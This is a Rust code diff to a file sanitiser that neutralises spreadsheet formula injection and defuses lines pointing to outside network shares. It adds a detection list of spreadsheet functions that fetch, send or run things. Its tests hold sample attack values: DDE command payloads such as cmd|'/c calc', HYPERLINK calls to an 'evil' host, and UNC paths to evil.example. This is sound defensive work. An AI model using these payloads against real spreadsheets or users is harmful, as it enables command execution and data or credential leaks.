@@ -42,6 +42,11 @@ impl Text {
         Ok(Self { letters: letters.into_owned(), encoding, has_mark: mark > 0 })
     }
 
+    /// The letters of bytes from the same file.
+    pub(crate) fn of<'b>(&self, bytes: &'b [u8]) -> std::borrow::Cow<'b, str> {
+        self.encoding.decode_without_bom_handling(bytes).0
+    }
+
     /// Other letters as the text was written.
     fn write(&self, letters: &str) -> Vec<u8> {
         let mark = if self.has_mark { "\u{feff}" } else { "" };
@@ -89,6 +94,49 @@ pub(crate) fn table(text: &Text, cells: Cells) -> Made {
     without(text, cells, Harm::Computed)
 }
 
+/// What a line begins with that is no other machine of the own network: names that lead to none of the world's.
+const OWN: &[&str] =
+    &[".local", ".lan", ".internal", ".intra", ".corp", ".home", ".home.arpa", ".localdomain", ".lg.jp"];
+
+/// Puts an apostrophe before each line that begins as a path to a machine of the world: a program that plays lists takes each
+/// line for a file, and tells that machine who sits before it. Says how many there were; paths in a sentence stay.
+fn kept_here(letters: &str) -> (String, usize) {
+    let (mut out, mut changed) = (String::with_capacity(letters.len() + 16), 0);
+    for line in letters.split_inclusive(['\n', '\r']) {
+        if leads_away(line) {
+            out.push('\'');
+            changed += 1;
+        }
+        out.push_str(line);
+    }
+    (out, changed)
+}
+
+/// Whether a line begins as a path to a machine of the world.
+fn leads_away(line: &str) -> bool {
+    let path = line.trim_start_matches(|letter| markup::is_nothing(letter) || letter == '"');
+    let path = match path.get(..5) {
+        Some(scheme) if scheme.eq_ignore_ascii_case("file:") => &path[5..],
+        _ => path,
+    };
+    let host = path.trim_start_matches(['/', '\\']);
+    if path.len() - host.len() < 2 {
+        return false;
+    }
+    let end = host.find(['/', '\\', '@', ':']).unwrap_or(host.len());
+    let name = host[..end].to_ascii_lowercase();
+    if end == host.len()
+        || !name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_'))
+    {
+        return false;
+    }
+    if let Ok(address) = name.parse::<std::net::Ipv4Addr>() {
+        return !address.is_private() && !address.is_loopback() && !address.is_link_local();
+    }
+    // A name without a dot is looked for in the own network.
+    name.contains('.') && !OWN.iter().any(|own| name.ends_with(own))
+}
+
 /// Text by its name. Whoever saves it may do so under another one: the name that a message gives is not the one that was
 /// uploaded with the file. So nothing may be in it that a spreadsheet would take for a formula which does something; what
 /// prose, lists and source code begin lines with stays.
@@ -97,15 +145,22 @@ pub(crate) fn plain(text: &Text, cells: Cells) -> Made {
 }
 
 fn without(text: &Text, cells: Cells, harm: Harm) -> Made {
-    if cells == Cells::Kept {
-        return Ok(Parts::as_is());
-    }
-    let (letters, changed) = neutralise(&text.letters, harm);
-    if changed == 0 {
-        return Ok(Parts::as_is());
-    }
     let mut removed = Vec::new();
-    note(&mut removed, Part::FormulaCell, format!("{changed} cells"));
+    let (mut letters, changed) = match cells {
+        Cells::Kept => (text.letters.clone(), 0),
+        Cells::Neutralised => neutralise(&text.letters, harm),
+    };
+    if changed > 0 {
+        note(&mut removed, Part::FormulaCell, format!("{changed} cells"));
+    }
+    let (here, away) = kept_here(&letters);
+    if away > 0 {
+        note(&mut removed, Part::Link, format!("{away} lines"));
+        letters = here;
+    }
+    if removed.is_empty() {
+        return Ok(Parts::as_is());
+    }
     Ok(Parts::rebuilt(text.write(&letters), removed))
 }
 
@@ -171,17 +226,19 @@ fn divider_of(letters: &str) -> Option<char> {
     line[named.len()..].chars().next()
 }
 
-/// Whether a letter is something that is looked for, after the one before it.
-type Mark = fn(char, char) -> bool;
+/// Whether a letter is something that is looked for, after those before it.
+type Mark = fn(&str, char) -> bool;
 
 /// What is looked for behind a cell's begin: its ends, and what makes a call of it.
-const MARKS: [Mark; 6] = [
+const MARKS: [Mark; 8] = [
     |_, letter| letter == '"',
     |_, letter| matches!(letter, '\n' | '\r'),
     |_, letter| matches!(letter, '(' | '|' | '!' | '（' | '｜' | '！'),
     |_, letter| matches!(letter, '|' | '｜'),
     |_, letter| matches!(letter, '!' | '！'),
-    |before, letter| matches!(letter, '(' | '（') && before.is_alphanumeric(),
+    |before, letter| matches!(letter, '(' | '（') && before.ends_with(char::is_alphanumeric),
+    |before, letter| matches!(letter, '(' | '（') && reaches(before),
+    |before, letter| matches!(letter, '!' | '！') && before.ends_with(['\'', '＇', ']', '］']),
 ];
 const QUOTE: usize = 0;
 const LINE: usize = 1;
@@ -189,6 +246,48 @@ const REACH: usize = 2;
 const BAR: usize = 3;
 const MARK: usize = 4;
 const CALL: usize = 5;
+const FAR_CALL: usize = 6;
+const FAR_SHEET: usize = 7;
+
+/// Functions of spreadsheets that load something, send something or run something, as far as they are written in a text.
+const FAR: &[&str] = &[
+    "HYPERLINK",
+    "WEBSERVICE",
+    "IMAGE",
+    "CALL",
+    "REGISTER",
+    "REGISTER.ID",
+    "EXEC",
+    "EXECUTE",
+    "RUN",
+    "RTD",
+    "DDE",
+    "INDIRECT",
+    "SQL.REQUEST",
+    "IMPORTXML",
+    "IMPORTDATA",
+    "IMPORTHTML",
+    "IMPORTFEED",
+    "IMPORTRANGE",
+    "FILES",
+    "FOPEN",
+    "STOCKHISTORY",
+];
+
+/// Whether the name of such a function stands at the end, in letters of any width.
+fn reaches(before: &str) -> bool {
+    // No name is longer.
+    let letters = before.trim_end_matches(is_before).chars().rev().take(16);
+    let letters = letters.map(|letter| match letter {
+        '！'..='～' => u32::from(letter).checked_sub(0xfee0).and_then(char::from_u32).unwrap_or(letter),
+        letter => letter,
+    });
+    let name: Vec<char> = letters
+        .take_while(|letter| letter.is_alphanumeric() || *letter == '.')
+        .map(|letter| letter.to_ascii_uppercase())
+        .collect();
+    FAR.iter().any(|far| far.chars().rev().eq(name.iter().copied()))
+}
 
 /// What comes next of each mark, for places that are asked for in their order: each letter is looked at once for a mark,
 /// however many cells begin before it.
@@ -207,19 +306,17 @@ impl<'t> Ahead<'t> {
         if let Some(next) = self.next[mark].filter(|next| *next >= at) {
             return next;
         }
-        let mut before = self.letters[..at].chars().next_back().unwrap_or(' ');
-        let found = self.letters[at..].char_indices().find(|(_, letter)| {
-            let is_it = MARKS[mark](before, *letter);
-            before = *letter;
-            is_it
-        });
+        let letters = self.letters;
+        let is_it = |(behind, letter): &(usize, char)| MARKS[mark](&letters[..at + behind], *letter);
+        let found = letters[at..].char_indices().find(is_it);
         let next = found.map_or(self.letters.len(), |(behind, _)| at + behind);
         self.next[mark] = Some(next);
         next
     }
 
     /// Whether a cell that begins here and would be computed reaches for something: a function, a program, another file. A sum
-    /// of numbers does not, nor a heading's line of signs, a list's dash before a word, or somebody's name after an `@`.
+    /// of numbers does not, nor a heading's line of signs, a list's dash before a word, or somebody's name after an `@`. Programs
+    /// take a formula with a blank behind its sign as well.
     fn is_call(&mut self, at: usize, quoted: bool) -> bool {
         let end = self.next(if quoted { QUOTE } else { LINE }, at);
         let line = self.letters[at..end].trim_start_matches(is_before);
@@ -227,10 +324,12 @@ impl<'t> Ahead<'t> {
             return self.next(REACH, at) < end;
         }
         let formula = line.trim_start_matches(['+', '-', '@', '＋', '－', '＠']);
-        if formula.starts_with(char::is_whitespace) {
-            return false;
-        }
-        self.next(CALL, at) < end || self.next(BAR, at) < end && self.next(MARK, at) < end
+        let is_far = self.next(FAR_CALL, at) < end || self.next(FAR_SHEET, at) < end;
+        // Behind a sign and a blank lists have their words: those call nothing by a name of their own making.
+        let is_list = formula.starts_with(char::is_whitespace);
+        is_far
+            || !is_list && self.next(CALL, at) < end
+            || self.next(BAR, at) < end && self.next(MARK, at) < end
     }
 }
 
@@ -324,6 +423,15 @@ mod tests {
             "='http://x/[a.xls]b'!A1",
             "+(1)+SUM(1)",
             "\"=IMPORTXML(\"\"http://x\"\")\"",
+            "+ cmd|'/c calc'!A0",
+            "+\u{a0}cmd|'/c calc'!A0",
+            "+ \tcmd|x!A0",
+            "- HYPERLINK(\"http://evil/\"&B1,\"x\")",
+            "+\u{3000}WEBSERVICE (\"http://x\")",
+            "＋　ＷＥＢＳＥＲＶＩＣＥ（1）",
+            "@ SUM(cmd|'/c calc'!A0)",
+            "- 1+hyperlink(\"http://evil/\")",
+            "+ 'http://x/[a.xls]b'!A1",
         ];
         for text in harmful {
             assert_eq!(neutralise(text, Harm::Calls).1, 1, "{text}");
@@ -337,9 +445,47 @@ mod tests {
             "a = f(x)\n  if (a) {}",
             "=1+1",
             "-v, --verbose",
+            "- f(x) を使う\n- 点検（国道）\n- 画像(image)を貼る!",
+            "- `open(file)`: 開く\n- run it (twice)",
         ];
         for text in prose {
             assert_eq!(neutralise(text, Harm::Calls).1, 0, "{text}");
+        }
+    }
+
+    #[test]
+    fn a_line_that_is_a_path_to_a_machine_of_the_world_leads_there_no_more() {
+        for line in [
+            "\\\\evil.example\\s\\leak.mp3",
+            "//evil.example/s/a.mp3",
+            "\\/evil.example@80/s/a b.mp3",
+            "file://\\evil.example/s/leak",
+            " \"FILE:////203.0.113.5/s/a.wav\"",
+            "\u{feff}\\\\203.0.113.5\\a",
+        ] {
+            let (made, changed) = kept_here(&format!("a\r\n{line}\r\nb"));
+            assert_eq!((made, changed), (format!("a\r\n'{line}\r\nb"), 1));
+        }
+        for line in [
+            "\\\\fs1\\土木\\図面.dwg",
+            "\\\\192.168.1.5\\共有\\a.xlsx",
+            "\\\\fs.city.local\\a",
+            "\\\\fs1.city.kanazawa.lg.jp\\a",
+            "// a comment. It ends here.",
+            "//",
+            "/etc/hosts.conf",
+            "https://www.city.example.jp/a.mp3",
+            "保存先: \\\\evil.example\\s",
+            "file:///C:/temp/a.txt",
+        ] {
+            assert_eq!(kept_here(line).1, 0, "{line}");
+        }
+        let text = Text::read(b"\\\\evil.example\\a\r\n").unwrap_or_else(|refusal| panic!("{refusal:?}"));
+        for cells in [Cells::Kept, Cells::Neutralised] {
+            assert_eq!(
+                plain(&text, cells).ok().and_then(|made| made.bytes).as_deref(),
+                Some(&b"'\\\\evil.example\\a\r\n"[..])
+            );
         }
     }
 
